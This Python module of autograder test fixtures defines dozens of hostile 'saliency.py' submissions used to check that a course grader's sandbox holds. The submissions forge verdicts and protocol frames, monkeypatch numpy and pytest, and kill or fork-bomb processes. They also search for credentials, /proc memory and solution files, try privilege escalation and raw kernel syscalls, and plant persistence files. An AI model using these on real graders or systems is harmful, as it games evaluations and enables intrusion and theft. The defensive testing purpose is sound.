"""Attacks on the grader: submissions that want points, secrets or damage instead of an answer.

Each is a `saliency.py`. Those that look for something raise an error that tells what they found, as
`LOOT: ...`: a message is the one way out that a submission has.
"""

import zlib
from textwrap import dedent, indent
from typing import Any

from course.worker.settings import BARE

SMOOTH = """
def smooth(heatmaps, sigma):
    return 0 * heatmaps
"""
"""Goes with attacks that strike when the module is loaded."""

LOOK = """
import os, sys

def report(loot):
    raise RuntimeError(f"LOOT: {sorted(map(str, loot))[:5]}")

def tried(*actions):
    done = []
    for number, action in enumerate(actions):
        try:
            result = action()
        except BaseException:
            continue
        done.append(f"{number}: {result!r}"[:60])
    return done
"""
"""Goes with attacks that look for something: `tried` gives what did not fail."""


def smoothing(body: str) -> str:
    """An attack in the body of the function `smooth`."""
    lines = indent(dedent(body).strip(), "    ")
    return f"{LOOK}\ndef smooth(heatmaps, sigma):\n{lines}\n"


def forging(shape: str) -> str:
    """An attack that writes an answer with an array of this shape on every line it can find."""
    return smoothing(
        f"""
        import struct
        import msgspec
        value = {{"type": "array", "dtype": "uint8", "shape": {shape}, "data": b""}}
        answer = {{"type": "returned", "value": value, "changed": []}}
        frame = msgspec.msgpack.encode(answer)
        for number in range(3, 1024):
            try:
                os.write(number, struct.pack("<I", len(frame)) + frame)
            except OSError:
                pass
        return heatmaps
        """
    )


def sending(message: dict[str, Any]) -> str:
    """An attack that writes a message of its own making on every line it can find."""
    return smoothing(
        f"""
        import struct
        import msgspec
        message = eval(zlib.decompress({zlib.compress(repr(message).encode())}))
        frame = msgspec.msgpack.encode(message)
        for number in range(3, 1024):
            try:
                os.write(number, struct.pack("<I", len(frame)) + frame)
            except OSError:
                pass
        return 0 * heatmaps
        """.replace("import struct", "import struct, zlib")
    )


RETURNED = {"type": "returned", "value": {"type": "scalar", "value": 1}, "changed": []}
FRAME = {"file": "saliency.py", "line": 1, "function": "smooth", "text": "return"}


def returning(value: dict[str, Any]) -> str:
    """An attack that answers with a value of its own making."""
    return sending(RETURNED | {"value": value})


def raising(**parts: Any) -> str:
    """An attack that answers with an error of its own making."""
    plain = {"type": "raised", "types": ["E"], "message": "", "frames": [], "printed": ""}
    return sending(plain | parts)


def nest(depth: int) -> dict[str, Any]:
    """A list in a list in a list."""
    inner: dict[str, Any] = {"type": "scalar", "value": 1}
    for _ in range(depth):
        inner = {"type": "items", "values": [inner]}
    return inner


def hard(method: str) -> str:
    """An attack that raises an error with a method of its own."""
    return smoothing(f"class Error(Exception):\n    {method}\nraise Error")


FORGERIES: dict[str, str] = {
    # It goes away before anyone can look.
    "exits": "import sys\nsys.exit(0)\n",
    "exits_hard": "import os\nos._exit(0)\n",
    "exits_in_the_call": smoothing("sys.exit(0)"),
    "exits_hard_in_the_call": smoothing("os._exit(0)"),
    "exits_at_exit": f"import atexit, os\natexit.register(os._exit, 0)\n{SMOOTH}",
    "interrupts": smoothing("raise KeyboardInterrupt"),
    "claims_success": smoothing("class PassedError(Exception): pass\nraise PassedError('passed')"),
    "claims_not_started": smoothing("raise NotImplementedError('saliency.smooth')"),
    # It writes the verdict itself.
    "prints_a_result": smoothing(
        """
        print('{"score": 1.0, "status": "passed"}')
        os.write(1, b'{"task": "saliency.smooth", "status": "passed"}')
        return 0 * heatmaps
        """
    ),
    "writes_results": smoothing(
        """
        for place in ("results.json", "/tmp/results.json", "/autograder/results/results.json"):
            try:
                open(place, "w").write('{"score": 1.0}')
            except OSError:
                pass
        return 0 * heatmaps
        """
    ),
    # It makes everything equal to everything.
    "equals_everything": smoothing(
        """
        class Yes(float):
            __eq__ = __le__ = __lt__ = __ge__ = lambda self, other: True
            __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
        return Yes(0)
        """
    ),
    "changes_as_an_array": smoothing(
        """
        import numpy as np
        class Slippery:
            shape, dtype, looks = heatmaps.shape, heatmaps.dtype, 0
            def __array__(self, dtype=None, copy=None):
                Slippery.looks += 1
                return np.zeros(heatmaps.shape) if Slippery.looks > 1 else np.array(heatmaps)
        return Slippery()
        """
    ),
    "patches_numpy": f"""
import numpy as np
np.allclose = np.array_equal = np.all = lambda *args, **kwargs: True
np.abs = np.max = lambda *args, **kwargs: 0.0
{SMOOTH}""",
    "patches_tensorflow": f"""
import tensorflow as tf
tf.reduce_all = tf.equal = lambda *args, **kwargs: True
tf.constant = tf.convert_to_tensor = lambda *args, **kwargs: 0
{SMOOTH}""",
    "patches_scipy": f"""
import scipy.ndimage
scipy.ndimage.gaussian_filter = lambda maps, *args, **kwargs: 0 * maps
{SMOOTH}""",
    "patches_pytest_and_hypothesis": f"""
import sys, types
for name in ("pytest", "hypothesis", "_pytest.assertion", "tests.grading.test_saliency"):
    sys.modules[name] = types.ModuleType(name)
import builtins
builtins.AssertionError = type("Nothing", (BaseException,), {{}})
{SMOOTH}""",
    "patches_the_worker": f"""
import sys
worker = sys.modules.get("course.worker.process") or sys.modules["__main__"]
from course.worker import protocol
protocol.TOLERANCE = worker.TOLERANCE = 1e9
worker.Student._call = lambda self, *args: protocol.Returned(protocol.Scalar(True), [])
{SMOOTH}""",
    # It answers with what is no answer.
    "returns_nan": smoothing("return heatmaps * float('nan')"),
    "returns_objects": smoothing("import numpy as np\nreturn np.array([object()])"),
    "returns_a_pickle": smoothing(
        """
        class Bomb:
            def __reduce__(self):
                return os.system, ("echo boom",)
        import pickle
        return pickle.dumps(Bomb())
        """
    ),
    "returns_a_bomb": smoothing(
        """
        class Bomb:
            def __reduce__(self):
                return os.system, ("echo boom",)
        return Bomb()
        """
    ),
    "returns_a_giant": smoothing("import numpy as np\nreturn np.zeros(2**27, np.uint8)"),
    "returns_a_deep_nest": smoothing(
        """
        nest = ()
        for _ in range(100_000):
            nest = (nest,)
        return nest
        """
    ),
    "returns_itself": smoothing("nest = []\nnest.append(nest)\nreturn nest"),
    # It talks on the grader's line.
    "sends_garbage": smoothing(
        """
        for number in range(3, 1024):
            try:
                os.write(number, b"\\xff" * 100)
            except OSError:
                pass
        return 0 * heatmaps
        """
    ),
    "sends_answers_ahead": smoothing(
        """
        import struct
        from course.worker import protocol
        import msgspec
        answer = protocol.Returned(protocol.pack_array(heatmaps), [])
        frame = msgspec.msgpack.encode(answer)
        for number in range(3, 1024):
            try:
                os.write(number, (struct.pack("<I", len(frame)) + frame) * 100)
            except OSError:
                pass
        return heatmaps
        """
    ),
    "sends_a_false_array": smoothing(
        """
        import struct
        from course.worker import protocol
        import msgspec
        answer = protocol.Returned(protocol.Array("float64", (2**40, 2**40), b"1234"), [])
        frame = msgspec.msgpack.encode(answer)
        for number in range(3, 1024):
            try:
                os.write(number, struct.pack("<I", len(frame)) + frame)
            except OSError:
                pass
        return heatmaps
        """
    ),
    "sends_an_impossible_shape": forging("(0, 2**62)"),
    "sends_seventy_axes": forging("(1,) * 69 + (0,)"),
    "hangs_up": smoothing("os.closerange(0, 65536)\nreturn 0 * heatmaps"),
    # It wants to be seen, or not to end.
    "floods_the_output": smoothing(
        """
        for _ in range(200):
            print("flood " * 10_000)
            os.write(1, b"flood " * 10_000)
        return 0 * heatmaps
        """
    ),
    "shouts": smoothing("raise type('X' * 1_000_000, (Exception,), {})('Y' * 10_000_000)"),
    "steers_the_terminal": smoothing(
        r"raise RuntimeError('\x1b[2J\x1b]0;owned\x07\u202e \x9b31m passed')"
    ),
    "writes_html": smoothing(
        "raise RuntimeError('<script>alert(1)</script><img src=x onerror=y>')"
    ),
    "leaves_threads": smoothing(
        """
        import threading, time
        for _ in range(20):
            threading.Thread(target=time.sleep, args=(1000,)).start()
        return 0 * heatmaps
        """
    ),
    "asks_for_too_much_memory": smoothing("bytearray(16 * 2**30)\nreturn 0 * heatmaps"),
    # It answers with more than an honest worker sends.
    "sends_a_long_type_name": raising(types=["X" * 400_000]),
    "sends_many_types": raising(types=["X"] * 100_000),
    "sends_a_long_message": raising(message="a " * 1_500_000),
    "sends_many_frames": raising(frames=[FRAME] * 50_000),
    "prints_too_much_in_a_message": raising(printed="b\n" * 100_000),
    "sends_an_unknown_kind": sending({"type": "X" * 400_000}),
    "sends_many_changes": sending(RETURNED | {"changed": list(range(100_000))}),
    "sends_a_long_opaque_type": returning({"type": "opaque", "type_name": "X" * 100_000}),
    "sends_a_long_handle": returning({"type": "model", "handle": "X" * 100_000}),
    "sends_many_axes": returning(
        {"type": "figure", "axes": [{"is_colorbar": True, "images": []}] * 50_000}
    ),
    "sends_a_mapping_without_keys": returning({"type": "mapping", "keys": [], "values": []}),
    "sends_a_nest": returning(nest(80)),
    "sends_a_negative_shape": returning(
        {"type": "array", "dtype": "float64", "shape": [-1, -1], "data": b"12345678"}
    ),
    "returns_small_numbers_of_a_kind": smoothing("import numpy\nreturn numpy.zeros(2**24, 'u1')"),
    "returns_as_much_as_may_cross": smoothing("import numpy\nreturn numpy.zeros(2**22 - 999, '?')"),
    "returns_many_lists": smoothing("return list(range(100_000))"),
    "returns_a_long_number": smoothing("return 2**100_000"),
    "returns_half_a_character": smoothing(r"return '\ud800'"),
    # It makes an error that is hard to describe.
    "raises_half_a_character": smoothing(r"raise RuntimeError('\ud800' * 100)"),
    "raises_without_words": hard("def __str__(self): raise SystemExit"),
    "raises_with_a_number_for_words": hard("def __str__(self): return 3"),
    "raises_without_a_name": smoothing(
        """
        class Nameless(type):
            __name__ = property(lambda self: 1 / 0)
        class Error(Exception, metaclass=Nameless):
            pass
        raise Error
        """
    ),
    "raises_what_pretends_to_be_autographs": smoothing(
        """
        class Notes:
            translated_stack = [1, 2]
        error = ValueError("x")
        error.ag_error_metadata = Notes()
        raise error
        """
    ),
    "raises_a_long_family": smoothing(
        """
        family = Exception
        for _ in range(100):
            family = type("C" * 90, (family,), {})
        raise family("x")
        """
    ),
    "raises_a_long_chain": smoothing(
        """
        error = None
        for _ in range(10_000):
            error, before = ValueError(), error
            error.__cause__ = before
        raise error
        """
    ),
    "swaps_its_own_lines": smoothing(
        """
        import linecache
        linecache.cache["saliency.py"] = (1, None, ["X" * 10**6] * 100, "saliency.py")
        raise ValueError
        """
    ),
    # It gives up, and hopes that this is no failure.
    "gives_up_in_the_middle": smoothing(
        """
        from scipy.ndimage import gaussian_filter
        smooth.calls = getattr(smooth, "calls", 0) + 1
        if smooth.calls > 3:
            raise NotImplementedError("saliency.smooth")
        return gaussian_filter(heatmaps, (0, sigma, sigma))
        """
    ),
    "assumes_away": smoothing(
        "class UnsatisfiedAssumption(Exception): pass\nraise UnsatisfiedAssumption"
    ),
    # It turns on those around it: `kill(0)` means everybody in its group of processes.
    "kills_its_parent": smoothing("os.kill(os.getppid(), 9)\nreturn 0 * heatmaps"),
    "kills_its_group": smoothing("os.killpg(0, 9)\nreturn 0 * heatmaps"),
    "kills_itself": smoothing("os.kill(os.getpid(), 9)"),
    "crashes": smoothing("import ctypes\nctypes.string_at(0)"),
    "leaves_a_chain_of_forks": smoothing(
        """
        import ctypes, time
        library = ctypes.CDLL(None)
        if os.fork() == 0:
            os.setsid()
            library.prctl(1, 0, 0, 0, 0)
            library.prctl(36, 1, 0, 0, 0)
            while True:
                time.sleep(0.01)
                if os.fork():
                    os._exit(0)
        return 0 * heatmaps
        """
    ),
    # Sources that are odd themselves.
    "nests_brackets": f"def smooth(heatmaps, sigma):\n    return {'(' * 5000}0{')' * 5000}\n",
    "holds_a_zero_byte": f"x = '\0'\n{SMOOTH}",
    "speaks_another_machines_language": smoothing(
        """
        import ctypes, mmap
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(bytes.fromhex("b814000000cd80c3"))  # getpid as i386 calls it
        place = ctypes.addressof(ctypes.c_char.from_buffer(code))
        raise RuntimeError(ctypes.CFUNCTYPE(ctypes.c_long)(place)())
        """
    ),
}
"""Submissions that want points: none of them may pass, and the next submission must not notice."""


def calling(*calls: tuple[Any, ...]) -> str:
    """An attack that makes system calls of Linux on x86-64 by their numbers."""
    return smoothing(
        f"""
        import ctypes, platform
        library = ctypes.CDLL(None, use_errno=True)
        def call(number, *arguments):
            if platform.machine() != "x86_64" or library.syscall(number, *arguments) < 0:
                raise OSError
            return number
        report(tried(*[lambda call_=call_: call(*call_) for call_ in {calls!r}]))
        """
    )


THEFTS: dict[str, str] = {
    "imports_the_solutions": smoothing(
        """
        import importlib
        names = ("solutions", "solutions.saliency", "tests", "tests.grading.test_saliency",
                 "tests.answers.right.saliency", "course.grader.grading", "course.grader.mistakes")
        report(tried(*[lambda name=name: importlib.import_module(name) for name in names]))
        """
    ),
    "walks_the_files": smoothing(
        """
        wanted = {"solutions", "test_saliency.py", "grading.py", "mistakes.py", "hints.py", ".git",
                  "canary.txt", ".bash_history", ".ssh", "passwd", "shadow", "docs", "mkdocs.yml"}
        loot, skipped = [], ("/usr", "/lib", "/proc", "/dev", sys.prefix, sys.base_prefix)
        for folder, folders, files in os.walk("/"):
            if folder.startswith(skipped):
                folders[:] = []
                continue
            loot += [os.path.join(folder, one) for one in wanted & {*folders, *files}]
        report(loot)
        """
    ),
    "opens_by_path": smoothing(
        """
        import course.given
        root = os.path.dirname(os.path.dirname(os.path.dirname(course.given.__file__)))
        names = ("solutions/saliency.py", "tests/grading/test_saliency.py", "course/saliency.py",
                 "course/grader/grading.py", "README.md", ".git/config", "../../etc/passwd")
        report(tried(*[lambda name=name: open(os.path.join(root, name)).read() for name in names],
                     lambda: open("CANARY").read()))
        """
    ),
    "reads_the_environment": smoothing(
        """
        known = KNOWN
        libraries = ("TF", "KERAS", "KMP", "TPU", "JAX", "XLA", "GRPC", "LC_",
                     "ENABLE_RUNTIME", "HDF5")
        report(name for name in os.environ
               if name not in known and not name.startswith(libraries))
        """.replace("KNOWN", repr({*BARE, "PWD"}))
    ),
    "reads_other_processes": smoothing(
        """
        numbers = ["1", str(os.getppid()), "2", "3", "thread-self", "../proc/1"]
        files = ["mem", "environ", "cmdline", "fd", "root", "cwd", "maps"]
        places = [f"/proc/{number}/{file}" for number in numbers for file in files]
        report([place for place in places if os.path.exists(place)])
        """
    ),
    "walks_the_frames": smoothing(
        """
        import gc
        loot, frame = [], sys._getframe()
        while frame is not None:
            loot += [name for name in frame.f_locals if name in ("expected", "oracle", "answers")]
            frame = frame.f_back
        loot += [name for name in sys.modules if name.startswith(("tests", "solutions"))]
        loot += [one.__name__ for one in gc.get_objects()
                 if getattr(one, "__module__", "") == "course.grader.grading"]
        report(loot)
        """
    ),
    "uses_the_network": smoothing(
        """
        import socket
        def call(family, address):
            with socket.socket(family, socket.SOCK_STREAM) as line:
                line.settimeout(2)
                line.connect(address)
                line.sendall(b"loot")
            return address
        report(tried(lambda: call(socket.AF_INET, ("127.0.0.1", PORT)),
                     lambda: call(socket.AF_UNIX, "\\0course-canary"),
                     lambda: call(socket.AF_INET, ("1.1.1.1", 53)),
                     lambda: socket.getaddrinfo("example.org", 80)))
        """
    ),
    "traces_the_server": smoothing(
        """
        import ctypes
        library = ctypes.CDLL(None, use_errno=True)
        def trace(number):
            if library.ptrace(16, number, None, None) != 0:
                raise OSError
            return number
        report(tried(*[lambda number=number: trace(number)
                       for number in (os.getppid() or 1, 2, 3, 4, 5, 6, 7, 8)]))
        """
    ),
    "becomes_root": smoothing(
        """
        import ctypes, socket, subprocess, time
        library = ctypes.CDLL(None, use_errno=True)
        def must(name, *arguments):
            if getattr(library, name)(*arguments) != 0:
                raise OSError(name)
            return name
        report(tried(lambda: os.setuid(0), lambda: os.chroot("/tmp"),
                     lambda: must("unshare", 0x10000000),
                     lambda: must("unshare", 0x00020000),
                     lambda: must("mount", b"tmpfs", b"/usr", b"tmpfs", 0, None),
                     lambda: must("mount", None, b"/", None, 0x1020, None),
                     lambda: must("umount2", b"/tmp", 2), lambda: must("umount2", b"/proc", 2),
                     lambda: socket.sethostname("owned"),
                     lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
                     lambda: subprocess.run(["su", "-c", "id"], check=True, capture_output=True)))
        """
    ),
    "plants_for_the_next": smoothing(
        """
        import site
        import course.given
        places = [*site.getsitepackages(), os.path.dirname(course.given.__file__), "/", "/usr",
                  "/dev", "/dev/shm", "/etc", sys.prefix, os.getcwd(), "/proc", "/var/tmp"]
        names = ("sitecustomize.py", "conftest.py", "evil.pth")
        def plant(place, name):
            path = os.path.join(place, name)
            with open(path, "w") as file:
                file.write("import os; os._exit(0)")
            return path
        report(tried(*[lambda place=place, name=name: plant(place, name)
                       for place in places for name in names]))
        """
    ),
    "reads_keys": calling(
        (250, 1, None),
        (250, 0, -3, 0),
        (250, 6, -3, 0, 0),
        (250, 11, -5, None, 0),
        (248, b"user", b"x", b"y", 1, -4),
        (249, b"user", b"x", None, -4),
    ),
    "calls_all_of_the_kernel": calling(
        (425, 4, bytes(200)),  # io_uring_setup
        (323, 0),  # userfaultfd
        (298, bytes(200), 0, -1, -1, 0),  # perf_event_open
        (321, 0, None, 0),  # bpf
        (319, b"x", 0),  # memfd_create
        (447, 0),  # memfd_secret
        (29, 0, 4096, 0o1600),  # shmget
        (101, 0, 0, 0, 0),  # ptrace
        (272, 0x10000000),  # unshare
        (308, 0, 0),  # setns
        (165, b"a", b"/tmp", b"tmpfs", 0, 0),  # mount
        (438, 0, 0, 0),  # pidfd_getfd
        (310, 1, 0, 0, 0, 0, 0),  # process_vm_readv
    ),
    "opens_odd_sockets": smoothing(
        """
        import socket
        report(tried(*[lambda family=family, kind=kind: socket.socket(family, kind)
                       for family in range(3, 46) for kind in (1, 2, 3, 5)]))
        """
    ),
    "raises_its_limits": smoothing(
        """
        import resource
        names = ("CPU", "DATA", "AS", "NPROC", "FSIZE", "NOFILE", "CORE")
        endless = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
        report(tried(*[lambda name=name: resource.setrlimit(
                           getattr(resource, f"RLIMIT_{name}"), endless) for name in names],
                     lambda: os.nice(-1), lambda: os.setpriority(os.PRIO_PROCESS, 0, 0)))
        """
    ),
    "looks_for_the_seed": smoothing(
        """
        import gc
        report(key for one in gc.get_objects() if type(one) is dict and "__name__" not in one
               for key, value in list(one.items())
               if key in ("seed", "_seed", "work_seed") and type(value) is int)
        """
    ),
    "signals_others": smoothing(
        """
        report(tried(*[lambda number=number: os.kill(number, 0) for number in range(2, 60)
                       if number != os.getpid()], lambda: os.kill(-2, 9)))
        """
    ),
}
"""Submissions that look for what they must not have: their loot has to be empty."""
